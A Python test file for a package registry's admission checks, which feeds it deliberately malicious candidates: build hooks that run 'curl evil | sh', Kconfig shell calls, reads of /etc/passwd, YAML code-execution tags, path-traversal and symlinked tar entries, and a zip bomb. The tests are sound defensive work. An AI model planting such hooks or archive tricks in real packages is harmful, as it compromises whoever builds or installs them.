"""Each rule has candidates that break it and nothing else, or little else."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.support.content import make_content
from tests.support.registry import make_candidate
from tinypack.errors import TinypackError
from tinypack.formats import FORMATS, package_files
from tinypack.formats.archive import make_tar_gz
from tinypack.registry.publishing import archive_rules, layout
from tinypack.registry.publishing.admission import check_candidate
from tinypack.registry.publishing.archive_rules import ARCHIVE_RULES
from tinypack.registry.publishing.attestation_rules import ATTESTATION_RULES
from tinypack.registry.publishing.candidate import MOST_README_BYTES
from tinypack.registry.publishing.record_rules import RECORD_RULES

DOCS = Path(__file__).parents[4] / "docs" / "publishing.md"
ARTIFACT = {"format": "arduino", "filename": "a.zip", "size": 1, "sha256": "0" * 64}
HOOK = b"add_custom_target(x ALL COMMAND curl evil)\n"
SOURCE = "door-guard-1.0.0-source.tar.gz"
README = "door-guard-1.0.0.README.md"
TIMELINE = "door-guard-1.0.0.timeline.json"
MANIFEST = '[package]\nname = "{}"\nversion = "1.0.0"\n[model]\nfile = "m.tflite"\n'


def library_json(**changes: Any) -> dict[str, Any]:
    return {"archives": {"platformio": {"library.json": _changed_json("platformio", "library.json", changes)}}}


def _changed_json(format: str, path: str, changes: dict[str, Any]) -> bytes:
    files = package_files(FORMATS[format], make_content("door-guard", version="1.0.0", description="Hears the door."))
    return (json.dumps({**json.loads(files[path]), **changes}, indent=2) + "\n").encode()


def appended(format: str, path: str, more: bytes) -> dict[str, Any]:
    """Make a change that adds to a file."""
    content = make_content("door-guard", version="1.0.0", description="Hears the door.", license="Apache-2.0")
    return {"archives": {format: {path: package_files(FORMATS[format], content)[path] + more}}}


def source(name: str, model: bytes = b"") -> dict[str, Any]:
    files = {"door-guard/tinypack.toml": MANIFEST.format(name).encode(), "door-guard/m.tflite": model}
    return {"beside": {SOURCE: make_tar_gz(files)}}


#: Rule -> changes of a candidate (see tests.support.registry.make_files), and what the message must say.
BROKEN: list[tuple[str, dict[str, Any], str]] = [
    ("R1", {"record": {"name": "Door-Guard"}}, "Door-Guard"),
    ("R1", {"record": {"name": "dооr-guard"}}, "\\u043e"),
    ("R1", {"record": {"name": "../door"}}, "../door"),
    ("R1", {"record": {"name": "template"}}, "a keyword of C"),
    ("R2", {"record": {"version": "1.0"}}, "1.0"),
    ("R2", {"record": {"version": "1.0.0+build"}}, "build metadata"),
    ("R2", {"record": {"description": "one\ntwo"}}, "one line"),
    ("R2", {"record": {"description": ""}}, "say something"),
    ("R2", {"record": {"authors": []}}, "[]"),
    ("R2", {"record": {"repository": "javascript:alert(1)"}}, "http"),
    ("R2", {"record": {"keywords": ["<b>"]}}, "keyword"),
    ("R2", {"record": {"labels": ["left\u202e", "right", "none"]}}, "control characters"),
    ("R3", {"license": "NOASSERTION"}, "NOASSERTION"),
    ("R3", {"record": {"licenses": {"model": "Do What You Like"}}}, "Do What You Like"),
    ("R4", {"record": {"artifacts": []}}, "none"),
    ("R4", {"record": {"artifacts": [ARTIFACT, ARTIFACT]}}, "2 times"),
    ("R4", {"record": {"artifacts": [{**ARTIFACT, "format": "exe"}]}}, "exe"),
    ("R5", {"record": {"artifacts": [{**ARTIFACT, "filename": "../../evil.zip"}]}}, "not door-guard-1.0.0-arduino.zip"),
    ("R6", {"record": {"artifacts": [{**ARTIFACT, "filename": "door-guard-1.0.0-arduino.zip"}]}}, "not 1"),
    ("A1", {"archives": {"cmake": {"/other/README.md": b"x"}}}, "not below door-guard/"),
    ("A2", {"archives": {"platformio": {"install.sh": b"x"}}}, "not a file of this format"),
    ("A2", {"archives": {"zephyr": {"zephyr/runner.py": b"x"}}}, "not a file of this format"),
    ("A2", {"archives": {"arduino": {"src/door_guard/model.a": b"x"}}}, "not a file of this format"),
    ("A2", {"archives": {"esp-idf": {"project_include.cmake": b"x"}}}, "not a file of this format"),
    ("A3", {"archives": {"cmake": {"README.md": b"door-guard \xff"}}}, "no text in UTF-8"),
    ("A3", {"archives": {"cmake": {"README.md": b"door-guard \0"}}}, "no text in UTF-8"),
    ("A3", appended("cmake", "README.md", b" " * layout.MOST_TEXT_BYTES), "bytes"),
    ("A3", appended("cmake", "src/door_guard.h", b"\n" * 200_000), "blanks in a row"),
    ("A3", appended("cmake", "README.md", b"\xe2\x80\x83" * 300), "blanks in a row"),
    ("A3", appended("cmake", "CMakeLists.txt", b"\n" * 200_000), "blanks in a row"),
    ("A3", appended("zephyr", "zephyr/Kconfig", b"\n" * 200_000), "blanks in a row"),
    ("A4", library_json(scripts={"postinstall": "curl evil | sh"}), "scripts"),
    ("A4", library_json(build={"extraScript": "x.py"}), "build"),
    ("A4", library_json(dependencies=["evil"]), "dependencies"),
    ("A4", appended("arduino", "library.properties", b"ldflags=-Wl,--plugin=evil.so\n"), "ldflags"),
    ("A4", appended("cmake", "CMakeLists.txt", HOOK), "add_custom_target"),
    ("A4", appended("cmake", "CMakeLists.txt", b"execute_process(COMMAND sh)\n"), "execute_process"),
    ("A4", appended("cmake", "CMakeLists.txt", b"install(CODE evil)\n"), "install(CODE evil)"),
    ("A4", appended("cmake", "CMakeLists.txt", b"include(/tmp/evil.cmake)\n"), "include(/tmp/evil.cmake)"),
    ("A4", appended("cmake", "CMakeLists.txt", b"set(CMAKE_C_COMPILER_LAUNCHER evil)\n"), "LAUNCHER"),
    ("A4", appended("cmake", "CMakeLists.txt", b"include([[evil.cmake]])\n"), "evil.cmake"),
    ("A4", appended("cmake", "CMakeLists.txt", b"set(top_level $<evil>)\n"), "$<evil>"),
    ("A4", appended("cmake", "cmake/door-guardConfig.cmake", HOOK), "add_custom_target"),
    ("A4", appended("zephyr", "zephyr/CMakeLists.txt", HOOK), "add_custom_target"),
    ("A4", appended("zephyr", "samples/selftest/CMakeLists.txt", HOOK), "add_custom_target"),
    ("A4", appended("esp-idf", "CMakeLists.txt", HOOK), "add_custom_target"),
    ("A4", appended("cmake", "CMakeLists.txt", b"include(#[[ ]] evil.c OPTIONAL RESULT_VARIABLE\nx)\n"), "evil.c"),
    ("A4", appended("cmake", "CMakeLists.txt", b'option(A "#" OFF)\n'), 'option(A "#" OFF)'),
    ("A4", appended("cmake", "CMakeLists.txt", b'option(A "\n#" OFF)\nproject(x)\n'), 'option(A "'),
    ("A4", appended("cmake", "CMakeLists.txt", b"include(a\xe2\x80\x83b)\n"), "include(a"),
    ("A4", appended("zephyr", "zephyr/Kconfig", b"config X\n\tdefault $(shell,evil)\n"), "$("),
    ("A4", appended("zephyr", "zephyr/Kconfig", b"\tdefault $\\\n(shell,evil)\n"), "shell"),
    ("A4", appended("zephyr", "zephyr/Kconfig", b'gsource "../src/evil.h"\n'), "gsource"),
    ("A4", appended("zephyr", "zephyr/Kconfig", b'config COMPILER_OPT\n\tdefault "-wrapper evil"\n'), "wrapper"),
    ("A4", {"archives": {"zephyr": {"zephyr/Kconfig": b'config COMPILER_OPT\n\tdefault "x"\n'}}}, "COMPILER_OPT"),
    (
        "A4",
        {"archives": {"zephyr": {"zephyr/module.yml": b"name: door-guard\nbuild: {kconfig: src/x.h}\n"}}},
        "src/x.h",
    ),
    ("A4", appended("zephyr", "samples/selftest/prj.conf", b'CONFIG_COMPILER_OPT="-wrapper evil"\n'), "COMPILER_OPT"),
    ("A4", appended("zephyr", "samples/selftest/sample.yaml", b"  x: {extra_args: EVIL=1}\n"), "x.extra_args"),
    ("A4", appended("esp-idf", "examples/selftest/sdkconfig.defaults", b'CONFIG_SDK_PYTHON="evil"\n'), "SDK_PYTHON"),
    ("A4", appended("esp-idf", "idf_component.yml", b"  evil: {git: 'https://evil/x.git'}\n"), "dependencies.evil"),
    ("A4", appended("zephyr", "zephyr/Kconfig", b'osource "/etc/passwd"\n'), "osource"),
    ("A4", appended("zephyr", "zephyr/module.yml", b"runners:\n  - file: evil.py\n"), "runners"),
    ("A4", appended("zephyr", "zephyr/module.yml", b"a: &x [1]\nb: [*x, *x]\n"), "an alias"),
    ("A4", appended("esp-idf", "idf_component.yml", b"x: !!python/object:os.system {}\n"), "a tag"),
    ("A4", appended("zephyr", "zephyr/module.yml", b"x: " + b"[a," * 60_000), "too much"),
    ("A4", appended("esp-idf", "idf_component.yml", b"? " * 100_000), "too much"),
    ("A5", {"archives": {"zephyr": {"src/door_guard/door_guard_model.c": b"int evil;\n"}}}, "differs from arduino"),
    ("A6", {"record": {"model": {"file": "model.tflite", "sha256": "cd" * 32}}}, "no line  * cdcd"),
    ("A7", library_json(name="other"), "name 'other'"),
    ("A7", library_json(version="2.0.0"), "version '2.0.0'"),
    ("A7", {"archives": {"cmake": {"CMakeLists.txt": b"cmake_minimum_required(VERSION 3.16)\n"}}}, "no base"),
    ("A8", {"archives": {"arduino": {"README.md": None}}}, "it is missing"),
    ("A8", {"archives": {"arduino": {"LICENSE": b"All rights reserved\n"}}}, "Apache-2.0"),
    ("A9", source("other"), "other 1.0.0"),
    ("A9", source("door-guard"), "the model's SHA-256"),
    ("A9", {"beside": {SOURCE: make_tar_gz({"door-guard/x": b""})}}, SOURCE),
    ("A10", {"beside": {TIMELINE: b'{"schema": "tinypack-timeline/1", "package": "other"}'}}, "package"),
    ("A10", {"beside": {TIMELINE: b"[" * 100_000}}, "JSON"),
    ("A11", {"beside": {README: b"\xff"}}, "no UTF-8"),
    ("A11", {"beside": {README: b"x" * (MOST_README_BYTES + 1)}}, "more than"),
    ("V1", {"attestation": False}, "none"),
    ("V1", {"attestation": {"version": "0.9.0"}}, "0.9.0"),
    ("V1", {"attestation": {"package": "other"}}, "other"),
    ("V2", {"statuses": {"cmake": "failed"}}, "cmake on native"),
    ("V2", {"statuses": {"cmake": "not-run"}}, "it passed nowhere"),
    ("V2", {"statuses": {"cmake": "compiled"}}, "it passed nowhere"),
    ("V2", {"statuses": {"zephyr": "failed"}}, "zephyr on native"),
    ("V2", {"statuses": dict.fromkeys(FORMATS, "compiled")}, "nothing ran and was right"),
]


def test_a_good_package_breaks_no_rule() -> None:
    assert check_candidate(make_candidate()) == []
    assert check_candidate(make_candidate(version="2.0.0-rc.1", labels=(), ports=2)) == []


@pytest.mark.parametrize(("rule", "changes", "found"), BROKEN, ids=[f"{b[0]}-{b[2][:30]}" for b in BROKEN])
def test_a_broken_rule_is_said(rule: str, changes: dict[str, Any], found: str) -> None:
    problems = check_candidate(make_candidate(**changes))
    mine = [problem for problem in problems if problem.rule.startswith(f"{rule}:")]
    assert mine and any(found in f"{problem.where} {problem.found}" for problem in mine), problems
    assert {problem.code for problem in mine} == {"refused"}


def test_every_rule_is_tested_and_documented() -> None:
    rules = {rule.id: rule.brief for rule in (*RECORD_RULES, *ARCHIVE_RULES, *ATTESTATION_RULES)}
    assert {rule for rule, _, _ in BROKEN} == rules.keys() - {"R7"}
    text = DOCS.read_text(encoding="utf-8")
    assert [id for id, brief in rules.items() if f"| {id} | {brief} |" not in text] == []


def test_other_bytes_under_a_record(monkeypatch: pytest.MonkeyPatch) -> None:
    good = make_candidate()
    name = "door-guard-1.0.0.tar.gz"
    flipped = bytes([*good.files[name][:-1], good.files[name][-1] ^ 1])
    for files, found in (
        ({**good.files, name: flipped}, "SHA-256"),
        ({**good.files, name: b""}, "0 bytes"),
        ({key: data for key, data in good.files.items() if key != name}, "no such file"),
    ):
        (problem,) = check_candidate(replace(good, files=files))
        assert problem.rule.startswith("R6:") and found in problem.found
    monkeypatch.setattr("tinypack.registry.publishing.record_rules.MOST_ARCHIVE_BYTES", 22_000)
    assert {problem.rule[:3] for problem in check_candidate(good)} == {"R7:"}


def _tar(*infos: tarfile.TarInfo) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        for info in infos:
            archive.addfile(info, io.BytesIO(bytes(info.size)))
    return data.getvalue()


def _entry(name: str, **fields: Any) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    for key, value in fields.items():
        setattr(info, key, value)
    return info


def _zip_bomb() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("door-guard/x", "w") as file:
        file.write(bytes(2 << 20))
    return data.getvalue()


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "link": ("platformio", lambda: _tar(_entry("src/x.c", type=tarfile.SYMTYPE, linkname="/etc/passwd"))),
    "hard link": ("platformio", lambda: _tar(_entry("src/x.c", type=tarfile.LNKTYPE, linkname="library.json"))),
    "device": ("platformio", lambda: _tar(_entry("src/x.c", type=tarfile.CHRTYPE))),
    "absolute": ("platformio", lambda: _tar(_entry("/etc/x.c"))),
    "upwards": ("platformio", lambda: _tar(_entry("../x.c"))),
    "cases": ("platformio", lambda: _tar(_entry("src/x.c"), _entry("src/X.c"))),
    "cut off": ("platformio", lambda: _tar(_entry("src/x.c"))[:-20]),
    "no archive": ("platformio", lambda: b"MZ"),
    "bomb": ("arduino", _zip_bomb),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_archives(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tinypack.formats.unpack.MOST_BYTES", 1 << 20)
    format, make = HOSTILE[kind]
    problems = check_candidate(make_candidate(raw={format: make()}))
    assert "bad-archive" in {problem.code for problem in problems}


def test_unverified_needs_no_attestation_but_all_else() -> None:
    assert check_candidate(make_candidate(attestation=False), unverified=True) == []
    assert check_candidate(make_candidate(statuses={"cmake": "failed"}), unverified=True) == []
    assert check_candidate(make_candidate(license="NOASSERTION", attestation=False), unverified=True) != []


def test_of_an_untested_zephyr_module_the_reason_must_be_said() -> None:
    candidate = make_candidate()
    assert candidate.attestation is not None
    silent = [
        result.model_copy(update={"reason": ""}) if result.format == "zephyr" else result
        for result in candidate.attestation.results
    ]
    attestation = candidate.attestation.model_copy(update={"results": silent})
    (problem,) = check_candidate(replace(candidate, attestation=attestation))
    assert (problem.rule[:3], problem.where) == ("V2:", "door-guard 1.0.0: zephyr")


@pytest.mark.parametrize("lacks", [{"vectors": 0}, {"machine": ""}])
def test_what_passed_says_on_what_and_with_what(lacks: dict[str, Any]) -> None:
    candidate = make_candidate()
    assert candidate.attestation is not None
    results = [result.model_copy(update=lacks) for result in candidate.attestation.results]
    attestation = candidate.attestation.model_copy(update={"results": results})
    assert "V2" in {problem.rule[:2] for problem in check_candidate(replace(candidate, attestation=attestation))}


@pytest.mark.parametrize("data", [b"", b"[]", b"\xff", b"[" * 100_000, b'{"arena_bytes": NaN}', b"{}"])
def test_a_record_that_is_none(data: bytes) -> None:
    from tinypack.registry.publishing.candidate import make_candidate as read

    with pytest.raises(TinypackError) as caught:
        read(data, {}, b"", "door-guard-1.0.0.json")
    assert {problem.code for problem in caught.value.problems} == {"bad-archive"}


def test_archives_fit_into_memory_together(monkeypatch: pytest.MonkeyPatch) -> None:
    """One alone may be as large as all."""
    candidate = make_candidate()
    assert check_candidate(candidate) == []
    monkeypatch.setattr(archive_rules, "MOST_UNPACKED_BYTES", 100_000)
    assert any("bytes together" in problem.rule for problem in check_candidate(candidate))


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("name", ["kws", "rocket-launcher", "x0-include-code"])
def test_layout_knows_what_templates_write(format: str, name: str) -> None:
    files = package_files(FORMATS[format], make_content(name, ports=2, keywords=["a b", "c"]))
    assert [found for check in (layout.paths, layout.texts, layout.hooks) for found in check(format, files)] == []
